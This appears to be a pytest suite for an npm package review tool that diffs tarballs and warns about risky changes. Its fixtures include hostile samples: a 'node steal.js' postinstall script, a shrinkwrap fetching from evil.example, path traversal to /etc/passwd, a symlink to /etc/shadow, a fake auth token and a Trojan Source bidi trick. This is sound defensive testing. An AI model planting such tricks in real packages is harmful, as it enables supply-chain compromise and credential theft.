"""The review page's diff: manifest changes, file changes, warnings, and the bounds on reading tarballs."""

from __future__ import annotations

import gzip
import io
import json
import tarfile

import pytest

from broker.domain.review_diff import Limits, compare, manifest_diff, snapshot
from broker.domain.tarball import InvalidTarball


def tgz(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size, info.mode = len(data), 0o644
            archive.addfile(info, io.BytesIO(data))
        for path, target in (links or {}).items():
            info = tarfile.TarInfo(path)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return buffer.getvalue()


def package(manifest: dict, **files: bytes) -> bytes:
    return tgz({"package/package.json": json.dumps(manifest).encode(),
                **{f"package/{k.replace('__', '/')}": v for k, v in files.items()}})


BASE = {"name": "demo", "version": "1.0.0", "dependencies": {"left-pad": "^1.0.0"}, "scripts": {"test": "node t"}}


def review(old_manifest, new_manifest, old_files=None, new_files=None, limits=Limits()):
    old = snapshot(package(old_manifest, **(old_files or {})), limits) if old_manifest is not None else None
    return compare(old, snapshot(package(new_manifest, **(new_files or {})), limits), limits)


def codes(result) -> list[str]:
    return [w.code for w in result.warnings]


def test_an_added_dependency_is_listed_and_warned():
    result = review(BASE, {**BASE, "dependencies": {"left-pad": "^1.0.0", "evil": "1.0.0"}})
    [change] = result.manifest.dependencies["dependencies"]
    assert (change.key, change.status, change.new) == ("evil", "added", "1.0.0")
    assert "new-dependency" in codes(result)


@pytest.mark.parametrize("kind", ["optionalDependencies", "peerDependencies"])
def test_every_installed_dependency_kind_is_compared(kind):
    result = review(BASE, {**BASE, kind: {"x": "1"}})
    assert result.manifest.dependencies[kind][0].status == "added"
    assert "new-dependency" in codes(result)


def test_a_new_dev_dependency_is_listed_but_not_warned():
    result = review(BASE, {**BASE, "devDependencies": {"jest": "29"}})
    assert result.manifest.dependencies["devDependencies"][0].key == "jest"
    assert "new-dependency" not in codes(result)


def test_changed_and_removed_dependencies():
    result = review({**BASE, "dependencies": {"a": "1", "b": "1"}}, {**BASE, "dependencies": {"a": "2"}})
    assert [(c.key, c.status) for c in result.manifest.dependencies["dependencies"]] == [("a", "changed"),
                                                                                         ("b", "removed")]
    assert "new-dependency" not in codes(result)


def test_bundle_dependencies_as_a_list():
    result = review(BASE, {**BASE, "bundledDependencies": ["x"]})
    assert result.manifest.dependencies["bundleDependencies"][0].key == "x"


@pytest.mark.parametrize("script", ["preinstall", "install", "postinstall", "prepare"])
def test_a_new_install_script_is_flagged(script):
    result = review(BASE, {**BASE, "scripts": {"test": "node t", script: "node steal.js"}})
    [change] = result.manifest.scripts
    assert change.flagged and change.status == "added"
    assert "install-script" in codes(result)


def test_an_ordinary_script_is_not_flagged():
    result = review(BASE, {**BASE, "scripts": {"test": "node t2"}})
    assert not result.manifest.scripts[0].flagged
    assert "install-script" not in codes(result)


def test_a_changed_install_script_is_warned():
    result = review({**BASE, "scripts": {"postinstall": "a"}}, {**BASE, "scripts": {"postinstall": "b"}})
    assert "install-script" in codes(result)


def test_bin_engines_exports():
    old = {**BASE, "engines": {"node": ">=18"}, "exports": {".": {"import": "./a.mjs", "require": "./a.js"}}}
    new = {**BASE, "bin": "cli.js", "engines": {"node": ">=20"},
           "exports": {".": {"import": "./b.mjs", "require": "./a.js"}, "./x": "./x.js"}}
    result = review(old, new)
    assert [(c.key, c.new) for c in result.manifest.bin] == [("demo", "cli.js")]
    assert [(c.key, c.old, c.new) for c in result.manifest.engines] == [("node", ">=18", ">=20")]
    assert [(c.key, c.status) for c in result.manifest.exports] == [(". > import", "changed"), ("./x", "added")]
    assert "new-bin" in codes(result)


def test_file_list_diff_with_sizes_and_a_unified_diff():
    result = review(BASE, BASE, {"index.js": b"a\nb\n", "old.js": b"x"}, {"index.js": b"a\nc\n", "new.js": b"yy"})
    by_path = {c.path: c for c in result.files}
    assert by_path["new.js"].status == "added" and by_path["new.js"].new_size == 2
    assert by_path["old.js"].status == "removed" and by_path["old.js"].old_size == 1
    changed = by_path["index.js"]
    assert changed.status == "changed" and "-b" in changed.diff and "+c" in changed.diff
    assert result.unchanged_files == 1  # package.json


def test_binary_and_minified_files_are_flagged_not_shown():
    minified = b"var a=1;" * 400
    result = review(BASE, BASE, {}, {"addon.node": b"\x7fELF\x00\x01", "dist__app.min.js": b"x", "b.js": minified})
    by_path = {c.path: c for c in result.files}
    assert by_path["addon.node"].kind == "binary" and by_path["addon.node"].diff is None
    assert by_path["dist/app.min.js"].kind == "minified" and by_path["dist/app.min.js"].diff is None
    assert by_path["b.js"].kind == "minified"
    assert "new-binary" in codes(result)


@pytest.mark.parametrize("path, content", [
    (".env", b"DB_PASSWORD=x"),
    (".npmrc", b"//registry.npmjs.org/:_authToken=npm_abc"),
    ("keys__deploy.pem", b"-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n"),
    ("id_rsa", b"whatever"),
])
def test_files_that_look_like_secrets_are_warned(path, content):
    result = review(BASE, BASE, {}, {path: content})
    assert "secret" in codes(result)


def test_an_npmrc_without_a_token_is_not_a_secret():
    assert "secret" not in codes(review(BASE, BASE, {}, {".npmrc": b"save-exact=true\n"}))


def test_a_size_jump_is_warned():
    result = review(BASE, BASE, {"a.js": b"x" * 1000}, {"a.js": b"x" * 1000, "big.js": b"y\n" * 200_000})
    assert "size-jump" in codes(result)


def test_no_previous_version_lists_everything_as_added():
    result = compare(None, snapshot(package({**BASE, "scripts": {"postinstall": "x"}}, **{"a.js": b"1\n"})))
    assert {c.status for c in result.files} == {"added"}
    assert "install-script" in codes(result)
    assert result.old_unpacked is None


def test_path_tricks_are_reported_not_compared():
    data = tgz({"package/package.json": json.dumps(BASE).encode(), "package/../../etc/passwd": b"x",
                "/abs": b"y"}, links={"package/link": "/etc/shadow"})
    snap = snapshot(data)
    assert set(snap.files) == {"package.json"}
    assert len(snap.problems) == 3 and "npm does not install links" in snap.problems[-1]
    assert "unreadable" in codes(compare(None, snap))


def test_unpacked_bytes_are_capped():
    data = package(BASE, **{"zeros.bin": b"\x00" * (3 * 1024 * 1024)})
    assert len(data) < 64 * 1024  # a small tarball that unpacks big
    with pytest.raises(InvalidTarball):
        snapshot(data, Limits(unpacked_bytes=1024 * 1024))


def test_text_kept_per_file_and_per_tarball_is_capped():
    limits = Limits(text_per_file=100, text_per_tarball=150)
    snap = snapshot(package(BASE, **{"a.js": b"a" * 80, "b.js": b"b" * 80, "c.js": b"c" * 200}), limits)
    assert snap.files["c.js"].kind == "large" and snap.files["c.js"].text is None
    kept = [p for p in ("a.js", "b.js") if snap.files[p].text is not None]
    assert len(kept) == 1  # the second would pass the tarball's budget
    assert snap.manifest == BASE  # package.json has its own allowance


def test_diff_lines_are_capped():
    old = {"a.txt": "".join(f"{i}\n" for i in range(100)).encode()}
    new = {"a.txt": "".join(f"{i}x\n" for i in range(100)).encode()}
    [change] = [c for c in review(BASE, BASE, old, new, limits=Limits(diff_lines=20)).files]
    assert change.truncated and len(change.diff) == 20


def test_not_a_tarball():
    with pytest.raises(InvalidTarball):
        snapshot(b"not gzip")
    with pytest.raises(InvalidTarball):
        snapshot(gzip.compress(b"not a tar" * 100))


def test_manifest_diff_of_nonsense_values_does_not_raise():
    diff = manifest_diff({"scripts": "x", "dependencies": [1], "bin": 3, "exports": None},
                         {"scripts": {"postinstall": 1}, "dependencies": {"a": {"b": 1}}, "exports": "./i.js"})
    assert diff.install_scripts[0].new == "1"
    assert diff.exports[0].key == "."


def test_the_page_shows_a_bounded_number_of_diff_lines_in_all():
    new = {f"f{i}.js": "".join(f"{i}-{n}\n" for n in range(30)).encode() for i in range(5)}
    result = review(BASE, BASE, {}, new, limits=Limits(diff_lines=20, page_diff_lines=50))
    shown = [c for c in result.files if c.diff is not None]
    assert sum(len(c.diff) for c in shown) == 50
    assert [c.withheld for c in result.files] == [False, False, False, True, True]


def test_a_file_of_too_many_lines_is_compared_by_digest_only():
    old = {"a.txt": b"x\n" * 50}
    new = {"a.txt": b"y\n" * 50}
    [change] = review(BASE, BASE, old, new, limits=Limits(compared_lines=40)).files
    assert change.kind == "large" and change.diff is None and not change.withheld


def tgz_entries(*entries: tuple[str, bytes | str]) -> bytes:
    """Entries in order, duplicates allowed: bytes make a file, a str a symbolic link to it."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, value in entries:
            info = tarfile.TarInfo(path)
            if isinstance(value, str):
                info.type, info.linkname = tarfile.SYMTYPE, value
                archive.addfile(info)
            else:
                info.size = len(value)
                archive.addfile(info, io.BytesIO(value))
    return buffer.getvalue()


def test_a_link_does_not_hide_the_file_npm_installs_at_its_path():
    # npm (pacote) skips every link entry: a file followed by a link of the same path installs the file.
    manifest = ("package/package.json", json.dumps(BASE).encode())
    old = snapshot(tgz_entries(manifest, ("package/index.js", b"ok()\n")))
    new = snapshot(tgz_entries(manifest, ("package/index.js", b"steal()\n"), ("package/index.js", "safe.js"),
                               ("package/other.js", "index.js")))
    [change] = compare(old, new).files
    assert (change.path, change.kind) == ("index.js", "text") and "+steal()" in change.diff
    assert len(new.problems) == 2 and all("link" in p for p in new.problems)


def test_the_last_of_duplicate_entries_is_compared_as_npm_installs_it():
    manifest = ("package/package.json", json.dumps(BASE).encode())
    new = snapshot(tgz_entries(manifest, ("package/index.js", b"shown()\n"), ("x/index.js", b"installed()\n")))
    assert new.files["index.js"].text == "installed()\n"


def test_the_page_shows_a_bounded_amount_of_diff_text_in_all():
    # Lines of 999 characters are not "minified": unbounded, 41 KiB tarballs made an 85 MiB page.
    new = {f"f{i}.js": ("<" * 999 + "\n").encode() * 10 for i in range(4)}
    result = review(BASE, BASE, {}, new, limits=Limits(page_diff_chars=25_000))
    shown = [c for c in result.files if c.diff is not None]
    assert sum(len(line) for c in shown for line in c.diff) <= 25_000
    assert [(c.truncated, c.withheld) for c in result.files] == [(False, False), (False, False), (True, False),
                                                               (False, True)]


def test_the_time_spent_diffing_one_page_is_bounded():
    # Every other line changed: difflib is quadratic on it (10,000 lines took ~7 s on one file).
    old = "".join(f"line {n}\n" for n in range(1500)).encode()
    new = "".join(f"line {n}\n" if n % 2 else f"changed {n}\n" for n in range(1500)).encode()
    files = {f"f{i}.js": (old, new) for i in range(6)}
    result = review(BASE, BASE, {k: v[0] for k, v in files.items()}, {k: v[1] for k, v in files.items()},
                    limits=Limits(diff_seconds=0.01))
    assert result.files[0].diff is not None, "the first file is always compared"
    assert all(c.withheld and c.diff is None for c in result.files[1:])


def test_a_file_of_4000_lines_is_compared_by_digest_only_by_default():
    # difflib's worst case grows with the square of the lines: every other of 10,000 changed took ~7 s.
    old = {"a.txt": "".join(f"{n}\n" for n in range(4001)).encode()}
    new = {"a.txt": "".join(f"{n}\n" if n % 2 else f"{n}x\n" for n in range(4001)).encode()}
    [change] = review(BASE, BASE, old, new).files
    assert change.kind == "large" and change.diff is None


def test_the_paths_of_one_tarball_are_bounded_in_total():
    data = package(BASE, **{f"{'d' * 50}{i}.js": b"1" for i in range(10)})
    snapshot(data, Limits(path_chars=1000))
    with pytest.raises(InvalidTarball, match="paths"):
        snapshot(data, Limits(path_chars=400))


def test_a_binding_gyp_is_an_install_script_npm_derives():
    # npm runs `node-gyp rebuild` at install for a package with binding.gyp and no install script of its own.
    result = review(BASE, BASE, {}, {"binding.gyp": b"{'targets': [{'actions': [{'action': ['sh', 'x']}]}]}\n"})
    assert "install-script" in codes(result)
    assert [(s.key, s.new) for s in result.manifest.install_scripts] == [("install", "node-gyp rebuild")]


@pytest.mark.parametrize("scripts", [["a"], "x", 5, None])
def test_scripts_that_are_not_an_object_do_not_break_the_diff(scripts):
    result = review(BASE, {**BASE, "scripts": scripts}, {}, {"binding.gyp": b"{}\n"})
    assert [(s.key, s.new) for s in result.manifest.install_scripts] == [("install", "node-gyp rebuild")]


def test_commands_npm_derives_from_directories_bin_are_warned():
    result = review(BASE, {**BASE, "directories": {"bin": "bin"}}, {}, {"bin__tool.js": b"#!/usr/bin/env node\n"})
    assert [(c.key, c.new) for c in result.manifest.bin] == [("tool.js", "bin/tool.js")]
    assert "new-bin" in codes(result)


def test_an_added_or_changed_shrinkwrap_is_warned():
    # npm installs the exact tree an npm-shrinkwrap.json names, from the URLs it names.
    lock = b'{"lockfileVersion": 3, "packages": {"node_modules/a": {"resolved": "https://evil.example/a.tgz"}}}'
    assert "shrinkwrap" in codes(review(BASE, BASE, {}, {"npm-shrinkwrap.json": lock}))
    assert "shrinkwrap" in codes(review(BASE, BASE, {"npm-shrinkwrap.json": b"{}"}, {"npm-shrinkwrap.json": lock}))
    assert "shrinkwrap" not in codes(review(BASE, BASE, {"npm-shrinkwrap.json": lock}, {"npm-shrinkwrap.json": lock}))


RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "Trojan Source" (CVE-2021-42574) code reads differently from how it runs


def test_bidirectional_controls_and_invisible_characters_are_warned_and_shown():
    from broker.api.review import LIMITS, StageView
    from broker.web import render

    code = f'if (user != "admin{RLO} {{ // check"\u200b) {{ steal() }}\n'.encode()
    result = review(BASE, {**BASE, "scripts": {"postinstall": f"node ok.js{RLO}"}}, {"a.js": b"1\n"},
                    {"a.js": code, f"x{RLO}sj.js": b"1\n", "bom.js": "\ufeffok()\n".encode()})
    [warning] = [w for w in result.warnings if w.code == "hidden-characters"]
    assert "a.js" in warning.message and "x" in warning.message and "bom.js" not in warning.message
    stage = StageView("0" * 8, "demo", "1.0.1", "latest", "alice", "user", None, "1 s", "now", "none", 1, "sha512-x",
                      required=1)
    page = render("stage.html", base="/-/review/", user="alice", csrf="c", stage=stage, base_version="1.0.0",
                  base_reason="", diff=result, diff_error="", limits=LIMITS, maintainers=1, max_required=1)
    assert RLO not in page and "\u200b" not in page
    assert '<mark class="hidden-char">U+202E</mark>' in page and '<mark class="hidden-char">U+200B</mark>' in page
